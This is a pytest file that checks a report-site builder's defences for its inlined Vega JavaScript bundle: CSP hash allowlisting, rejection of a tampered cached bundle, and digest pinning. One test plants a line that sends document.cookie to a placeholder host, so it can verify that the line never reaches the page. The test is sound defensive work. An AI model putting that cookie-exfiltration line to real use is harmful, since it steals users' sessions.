"""The Vega JavaScript every page runs: inline and allowed by its hash, the cached copy checked by hash."""

from __future__ import annotations

import base64
import functools
import hashlib
import http.server
import threading

import pandas as pd
import pytest
import vl_convert

import reporter
from reporter.pages import assets

TWO_MODELS = pd.DataFrame({"model": ["a", "a", "b", "b"], "layer": [0, 1, 0, 1], "head": [0, 1, 1, 0],
                           "category": ["A", "B", "A", "B"]})


@pytest.fixture
def served(tmp_path):
    """A two-model site, served over http from its folder (as GitHub Pages would)."""
    out = reporter.build_site([TWO_MODELS], formats=()).save(tmp_path / "site")
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(out))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield out, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def loaded(browser, url: str) -> tuple[list[str], list[str]]:
    """[typeof vegaEmbed, typeof window.changed] once ``url`` has loaded, and the console messages."""
    page = browser.new_page()
    messages: list[str] = []
    page.on("console", lambda m: messages.append(m.text))
    page.goto(url)  # waits for the load event, after every parser-blocking script
    kinds = page.evaluate("[typeof vegaEmbed, typeof window.changed]")
    page.close()
    return kinds, messages


def test_every_served_page_runs_its_own_inline_bundle_and_a_changed_copy_never_runs(browser, served):
    # Every page carries the bundle inline, allowed by its hash in the page's CSP: no shared file to replace,
    # and a page whose bundle was changed (on the server, in a mail) does not run it.
    out, base = served
    assert not (out / "assets").exists()
    for page in ("index.html", "a/index.html"):
        assert loaded(browser, f"{base}/{page}")[0] == ["function", "undefined"], page
    text = (out / "a" / "index.html").read_text()
    start = text.index("<script>", text.index('id="report-data"')) + len("<script>")
    (out / "a" / "index.html").write_text(text[:start] + "window.changed = true;" + text[start:])
    kinds, messages = loaded(browser, f"{base}/a/index.html")
    assert kinds == ["undefined", "undefined"]
    assert any("Content Security Policy" in m for m in messages), messages


def test_a_tampered_cached_bundle_is_not_inlined(tmp_path, monkeypatch):
    good = assets.vega_bundle()  # the real one, from the user's cache (checked) or built
    monkeypatch.setenv("REPORTER_CACHE_DIR", str(tmp_path))
    assets.vega_bundle.cache_clear()
    planted = assets.bundle_path()
    planted.write_text("fetch('https://example.invalid/?' + document.cookie);\n" + good, encoding="utf-8")
    monkeypatch.setattr(vl_convert, "javascript_bundle", lambda: good)  # building it for real takes 10 s
    try:
        assert assets.vega_bundle() == good
        assert planted.read_text(encoding="utf-8") == good  # the cache holds the real bundle again
        page = reporter.build(pd.DataFrame({"layer": [0], "head": [0], "category": ["A"]}), formats=()).to_html()
        assert "example.invalid" not in page and good in page
    finally:
        assets.vega_bundle.cache_clear()


def test_the_installed_vl_convert_has_its_bundle_digest_pinned():
    version = assets.bundle_path().name.removeprefix("vega-bundle-").removesuffix(".js")
    built = vl_convert.javascript_bundle().replace("</script", "<\\/script")
    assert assets.KNOWN_BUNDLES.get(version) == assets.sha256_text(built), f"pin {version} in KNOWN_BUNDLES"
